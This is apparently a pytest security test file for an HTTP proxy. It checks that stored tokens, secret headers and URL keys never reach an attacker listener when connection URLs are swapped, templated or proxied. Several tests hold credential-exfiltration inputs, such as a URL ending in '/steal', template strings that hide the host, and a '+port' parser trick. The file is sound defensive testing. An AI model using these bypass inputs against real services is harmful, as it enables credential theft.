"""Stored credentials go only where they were stored for, and the forward route never lends the proxy's origin.

Each test is an attack as input: a second server on another loopback port plays the attacker's listener, and
the test asserts what reached it (nothing) and what the proxy answered.
"""

from __future__ import annotations

import os
from pathlib import Path

import httpx
import pytest

from proxy.config.settings import MASK
from tests.conftest import TEST_TOKEN, RunningProxy, chat_connection, running_proxy
from tests.servers import proxy_serving
from tests.upstream import Reply, Upstream

pytestmark = pytest.mark.e2e
API_KEY = "proxy-own-key-0123456789"


@pytest.fixture
def searched_attacker(upstream: Upstream, attacker: tuple[Upstream, str]) -> tuple[Upstream, str]:
    """The attacker's (listener, base URL), it and the upstream both answering a connector's search with none."""
    upstream.handle("/search", lambda r: Reply(json={"results": []}))
    attacker[0].handle("/", lambda r: Reply(json={"results": []}))
    return attacker


def _all_text(listener: Upstream) -> str:
    return " ".join(f"{r.path} {r.headers} {r.body!r}" for r in listener.received)


def test_test_connection_url_swap_needs_the_credentials_again(
    proxy_server: RunningProxy, upstream: Upstream, upstream_url: str, attacker: tuple[Upstream, str]
) -> None:
    listener, evil = attacker
    with httpx.Client(base_url=proxy_server.url) as client:
        conn = client.post("/endpointConnections", json=chat_connection(upstream_url)).json()
        swapped = client.post("/endpointConnections/testConnection", json={"id": conn["id"], "url": f"{evil}/steal"})
        assert swapped.status_code == 422, swapped.text
        error = swapped.json()
        assert error["errors"][0]["field"] == "url"
        assert "authToken" in error["message"] and "again" in error["message"]
        assert listener.received == []
        # Given again in the same request, the caller shows it knows the credential: the call goes through.
        restated = client.post(
            "/endpointConnections/testConnection",
            json={"id": conn["id"], "url": f"{evil}/steal", "authToken": "tok-given-again-000"},
        )
        assert restated.status_code == 200, restated.text
        (arrived,) = listener.received
        assert arrived.headers["authorization"] == "Bearer tok-given-again-000"
        # Same origin, another path: the stored credential may go there.
        same = client.post("/endpointConnections/testConnection", json={"id": conn["id"], "url": f"{upstream_url}/x"})
        assert same.status_code == 200 and same.json()["statusCode"] == 200
    assert TEST_TOKEN not in _all_text(listener)
    assert upstream.requests_to("/x")[0].headers["authorization"] == f"Bearer {TEST_TOKEN}"


def test_patch_moving_a_connection_to_another_origin_keeps_nothing_stored(
    proxy_server: RunningProxy, upstream_url: str, attacker: tuple[Upstream, str]
) -> None:
    listener, evil = attacker
    headers = {"X-Api-Secret": "hdr-Secret-Value-99", "X-Plain": "p"}
    with httpx.Client(base_url=proxy_server.url) as client:
        conn = client.post("/endpointConnections", json=chat_connection(upstream_url, headers=headers)).json()
        moved = client.patch(f"/endpointConnections/{conn['id']}", json={"url": f"{evil}/chat"})
        assert moved.status_code == 422
        assert "authToken" in moved.json()["message"] and "headers.X-Api-Secret" in moved.json()["message"]
        assert client.get(f"/endpointConnections/{conn['id']}").json()["url"] == f"{upstream_url}/chat"
        # The masked header written back still stands for the stored value: not restated.
        masked = client.patch(
            f"/endpointConnections/{conn['id']}",
            json={"url": f"{evil}/chat", "authToken": "tok-new-one-12345", "headers": {"X-Api-Secret": "••••••••"}},
        )
        assert masked.status_code == 422 and "headers.X-Api-Secret" in masked.json()["message"]
        assert "authToken" not in masked.json()["message"]
        # Every credential restated (or dropped with authType NONE): the move is allowed.
        ok = client.patch(
            f"/endpointConnections/{conn['id']}",
            json={"url": f"{evil}/chat", "authType": "NONE", "headers": {"X-Plain": "p"}},
        )
        assert ok.status_code == 200, ok.text
        assert ok.json()["url"] == f"{evil}/chat" and ok.json()["hasAuthToken"] is False
    assert listener.received == []


def test_connector_patch_to_another_origin_never_sends_the_stored_token(
    proxy_server: RunningProxy, upstream: Upstream, upstream_url: str, searched_attacker: tuple[Upstream, str]
) -> None:
    listener, evil = searched_attacker
    with httpx.Client(base_url=proxy_server.url) as client:
        body = {
            "name": "docs",
            "url": f"{upstream_url}/search",
            "service_auth": {"type": "bearer", "token": TEST_TOKEN},
        }
        assert client.post("/v1/connectors", json=body).status_code == 200
        moved = client.patch("/v1/connectors/docs", json={"url": f"{evil}/search"})
        assert moved.status_code == 422
        assert "token" in moved.json()["message"] and "service_auth" in moved.json()["message"]
        assert listener.received == []
        assert client.get("/v1/connectors/docs").json()["connector"]["url"] == f"{upstream_url}/search"
        restated = client.patch(
            "/v1/connectors/docs",
            json={"url": f"{evil}/search", "service_auth": {"type": "bearer", "token": "svc-token-for-evil-1"}},
        )
        assert restated.status_code == 200, restated.text
    (registration,) = listener.received
    assert registration.headers["authorization"] == "Bearer svc-token-for-evil-1"


def test_forward_strips_browser_and_proxy_headers_both_ways(
    proxy_server: RunningProxy, upstream: Upstream, upstream_url: str
) -> None:
    upstream.script(
        "/v1/page",
        Reply(
            text="<html><script>fetch('/endpointConnections')</script></html>",
            headers={
                "Content-Type": "text/html",
                "Set-Cookie": "session=upstream-cookie",
                "Access-Control-Allow-Origin": "*",
                "Access-Control-Allow-Credentials": "true",
                "Content-Security-Policy": "default-src *",
                "X-Upstream": "kept",
            },
        ),
    )
    with httpx.Client(base_url=proxy_server.url) as client:
        client.post("/endpointConnections", json=chat_connection(upstream_url, authType="NONE", authToken=None))
        answer = client.get(
            "/forward/chat/v1/page",
            headers={
                "Cookie": "inspector=browser-cookie",
                "Referer": f"{proxy_server.url}/",
                "Origin": proxy_server.url,
                "X-Proxy-Record-Mode": "all",
                "X-Proxy-Test-Id": "t1",
                "X-Client": "kept",
            },
        )
    assert answer.status_code == 200
    (arrived,) = upstream.requests_to("/v1/page")
    sent = {name.lower() for name in arrived.headers}
    assert not sent & {"cookie", "referer", "origin", "x-proxy-record-mode", "x-proxy-test-id"}
    assert arrived.headers["x-client"] == "kept"
    returned = {name.lower() for name in answer.headers}
    assert "set-cookie" not in returned and not any(name.startswith("access-control-") for name in returned)
    assert answer.headers["content-security-policy"] == "sandbox"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-upstream"] == "kept" and answer.headers["x-proxy-cassette"] == "recorded"


def test_forward_miss_answer_carries_the_safety_headers(tmp_path: Path, upstream_url: str) -> None:
    with running_proxy(tmp_path, record_mode="none") as proxy, httpx.Client(base_url=proxy.url) as client:
        client.post("/endpointConnections", json=chat_connection(upstream_url))
        miss = client.get("/forward/chat/v1/nothing")
    assert miss.status_code == 404 and miss.headers["x-proxy-cassette"] == "miss"
    assert miss.headers["content-security-policy"] == "sandbox"
    assert miss.headers["x-content-type-options"] == "nosniff"


def test_an_environment_http_proxy_never_receives_the_token_for_a_loopback_upstream(
    tmp_path: Path, upstream: Upstream, upstream_url: str, attacker: tuple[Upstream, str]
) -> None:
    """`proxy serve` started with HTTP_PROXY/http_proxy naming the attacker's listener and no NO_PROXY: a stored
    bearer connection to a plain-http upstream on 127.0.0.1 is called directly; the listener receives nothing."""
    listener, evil = attacker
    env = {name: value for name, value in os.environ.items() if name.lower() not in ("no_proxy", "proxy_secret_key")}
    env |= {"HTTP_PROXY": evil, "http_proxy": evil}
    data = ["--data-dir", str(tmp_path / "data"), "--cassettes", str(tmp_path / "cassettes"), "--record-mode", "off"]
    with proxy_serving(*data, env=env) as served, httpx.Client(base_url=served.url, timeout=30) as client:
        created = client.post("/endpointConnections", json=chat_connection(upstream_url))
        assert created.status_code == 201, created.text
        tested = client.post("/endpointConnections/testConnection", json={"id": created.json()["id"]}).json()
    assert tested["success"] and tested["statusCode"] == 200, tested
    assert listener.received == []
    (arrived,) = upstream.requests_to("/chat")
    assert arrived.headers["authorization"] == f"Bearer {TEST_TOKEN}"


def test_the_servers_own_api_key_never_goes_upstream(tmp_path: Path, upstream: Upstream, upstream_url: str) -> None:
    auth = {"Authorization": f"Bearer {API_KEY}"}
    with (
        running_proxy(tmp_path, api_key=API_KEY) as proxy,
        httpx.Client(base_url=proxy.url, headers=auth) as client,
    ):
        created = client.post("/endpointConnections", json=chat_connection(upstream_url, authType="NONE"))
        assert created.status_code == 201, created.text
        answer = client.post("/forward/chat/v1/echo", json={"q": "hi"})
        assert answer.status_code == 200 and answer.headers["x-proxy-cassette"] == "recorded"
    (arrived,) = upstream.requests_to("/v1/echo")
    assert "authorization" not in {name.lower() for name in arrived.headers}
    written = "".join(p.read_text() for p in (tmp_path / "cassettes").rglob("*.yaml"))
    assert written and API_KEY not in written


@pytest.mark.parametrize(
    "template",
    [
        # A block tag renders into the authority: urllib reads the host after `@`, the rendered URL has none.
        "{evil}{{% if false %}}@{up}/{{% endif %}}/v1",
        # The origin the forward route cut at `{{` was another than the one the check read.
        '{evil}{{{{ "" }}}}@{up}/v1',
        "{evil}{{# a comment #}}@{up}/v1",
    ],
)
def test_a_template_in_the_authority_is_no_way_around_the_origin_rule(
    proxy_server: RunningProxy, upstream_url: str, attacker: tuple[Upstream, str], template: str
) -> None:
    listener, evil = attacker
    swapped_url = template.format(evil=evil, up=upstream_url.removeprefix("http://"))
    with httpx.Client(base_url=proxy_server.url) as client:
        conn = client.post("/endpointConnections", json=chat_connection(upstream_url)).json()
        moved = client.patch(f"/endpointConnections/{conn['id']}", json={"url": swapped_url})
        assert moved.status_code == 422 and "authToken" in moved.json()["message"], moved.text
        tested = client.post("/endpointConnections/testConnection", json={"id": conn["id"], "url": swapped_url})
        assert tested.status_code == 422
        assert client.get(f"/endpointConnections/{conn['id']}").json()["url"] == f"{upstream_url}/chat"
        client.post("/forward/chat/v1/x", json={})
    assert listener.received == []


def test_a_port_written_so_that_only_one_parser_reads_it_is_no_way_around_the_origin_rule(
    proxy_server: RunningProxy, upstream: Upstream, attacker: tuple[Upstream, str]
) -> None:
    listener, evil = attacker
    port = evil.rsplit(":", 1)[1]
    with httpx.Client(base_url=proxy_server.url) as client:
        conn = client.post("/endpointConnections", json=chat_connection("http://127.0.0.1")).json()
        moved = client.patch(f"/endpointConnections/{conn['id']}", json={"url": f"http://127.0.0.1:+{port}/chat"})
        assert moved.status_code == 422 and "127.0.0.1" in moved.json()["message"], moved.text
    assert listener.received == []


def test_forward_refuses_a_connection_whose_template_decides_the_host(
    proxy_server: RunningProxy, upstream_url: str, attacker: tuple[Upstream, str]
) -> None:
    listener, evil = attacker
    templated = f"{evil}{{{{ '' }}}}@{upstream_url.removeprefix('http://')}/chat"  # renders to the upstream
    with httpx.Client(base_url=proxy_server.url) as client:
        created = client.post("/endpointConnections", json=chat_connection(upstream_url, url=templated))
        assert created.status_code == 201, created.text
        answer = client.post("/forward/chat/v1/x", json={})
    assert answer.status_code == 422 and "fixed origin" in answer.json()["message"]
    assert listener.received == []


def test_a_secret_an_upstream_echoes_in_a_header_is_masked_not_a_500(
    proxy_server: RunningProxy, upstream: Upstream, upstream_url: str
) -> None:
    upstream.handle("/v1/hdr", lambda r: Reply(json={}, headers={"X-Echo": r.headers["authorization"]}))
    with httpx.Client(base_url=proxy_server.url) as client:
        client.post("/endpointConnections", json=chat_connection(upstream_url))
        answer = client.get("/forward/chat/v1/hdr")
    assert answer.status_code == 200
    assert answer.headers["x-echo"] == "Bearer ********" and TEST_TOKEN not in str(answer.headers)


def test_a_secret_echoed_in_a_header_of_a_cut_answer_is_masked_not_a_500(
    proxy_server: RunningProxy, upstream: Upstream, upstream_url: str
) -> None:
    upstream.handle("/v1/hdr", lambda r: Reply(json={"a": "bcdefgh"}, headers={"X-Echo": r.headers["authorization"]}))
    with httpx.Client(base_url=proxy_server.url) as client:
        client.post("/endpointConnections", json=chat_connection(upstream_url, faults=[{"cut_after_bytes": 5}]))
        with pytest.raises(httpx.RemoteProtocolError), client.stream("GET", "/forward/chat/v1/hdr") as answer:
            assert answer.status_code == 200 and answer.headers["x-echo"] == "Bearer ********"
            assert answer.headers["x-proxy-cassette"] == "injected"
            answer.read()


URL_KEY = "AIzaSyTESTSECRET0123456789"


def test_a_url_moved_to_another_origin_with_its_key_masked_carries_no_key(
    proxy_server: RunningProxy, upstream: Upstream, upstream_url: str, attacker: tuple[Upstream, str]
) -> None:
    """The attack: the connection's URL, read back with `?key=••••••••`, sent again with another origin (a PATCH,
    or testConnection with the id): the mask keeps the stored key, which must not follow the URL there."""
    listener, evil = attacker
    gemini = chat_connection(upstream_url, url=f"{upstream_url}/v1/models/x:generate?key={URL_KEY}", authType="NONE")
    gemini["authToken"] = None
    with httpx.Client(base_url=proxy_server.url) as client:
        conn = client.post("/endpointConnections", json=gemini)
        assert conn.status_code == 201, conn.text
        shown = conn.json()["url"]
        stolen = shown.replace(upstream_url, evil)
        moved = client.patch(f"/endpointConnections/{conn.json()['id']}", json={"url": stolen})
        assert moved.status_code == 422, moved.text
        assert moved.json()["errors"][0]["field"] == "url" and "the stored url?key would be" in moved.json()["message"]
        assert URL_KEY not in moved.text
        tested = client.post("/endpointConnections/testConnection", json={"id": conn.json()["id"], "url": stolen})
        assert tested.status_code == 422 and "url?key" in tested.json()["message"]
        assert client.get(f"/endpointConnections/{conn.json()['id']}").json()["url"] == shown
        assert listener.received == []
        # The key given again (or another one) in the same request: the move is the caller's own.
        restated = client.patch(
            f"/endpointConnections/{conn.json()['id']}", json={"url": stolen.replace(MASK, "AIzaSyKEYFOREVIL00000")}
        )
        assert restated.status_code == 200, restated.text
        assert client.post("/endpointConnections/testConnection", json={"id": conn.json()["id"]}).status_code == 200
    (arrived,) = listener.received
    assert arrived.query == "key=AIzaSyKEYFOREVIL00000"
    assert URL_KEY not in _all_text(listener)


def test_a_connector_url_key_is_masked_and_never_follows_the_url_to_another_origin(
    proxy_server: RunningProxy, upstream: Upstream, upstream_url: str, searched_attacker: tuple[Upstream, str]
) -> None:
    """The attack: reading a connector's URL key back, or moving its URL (key masked) to another origin."""
    listener, evil = searched_attacker
    with httpx.Client(base_url=proxy_server.url) as client:
        created = client.post("/v1/connectors", json={"name": "docs", "url": f"{upstream_url}/search?key={URL_KEY}"})
        assert created.status_code == 200, created.text
        shown = client.get("/v1/connectors/docs").json()["connector"]["url"]
        assert shown == f"{upstream_url}/search?key={MASK}"
        assert URL_KEY not in created.text + client.get("/v1/connectors").text
        moved = client.patch("/v1/connectors/docs", json={"url": shown.replace(upstream_url, evil)})
        assert moved.status_code == 422 and "url?key" in moved.json()["message"], moved.text
        kept = client.patch("/v1/connectors/docs", json={"url": shown.replace("/search", "/search/")})
        assert kept.status_code == 200, kept.text
        assert client.post("/v1/connectors/docs/search", json={"query": "q"}).status_code == 200
        fresh = client.post("/v1/connectors", json={"name": "new", "url": shown})
        assert fresh.status_code == 422 and "stand for a stored value" in fresh.json()["message"]
        short = client.post("/v1/connectors", json={"name": "short", "url": f"{upstream_url}/search?token=abc"})
        assert short.status_code == 422 and "query parameter token is 3 characters" in short.json()["message"]
    assert listener.received == []
    assert [r.query for r in upstream.received] == [f"key={URL_KEY}"] * 3  # registered, re-registered, searched
